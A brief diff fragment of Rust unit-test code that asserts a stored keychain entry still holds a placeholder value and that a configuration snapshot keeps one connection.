+        assert_eq!(state.get_keychain_value("kc_web").unwrap(), "old-secret");
+        assert_eq!(state.get_config_snapshot().connections.len(), 1);
+    }
 }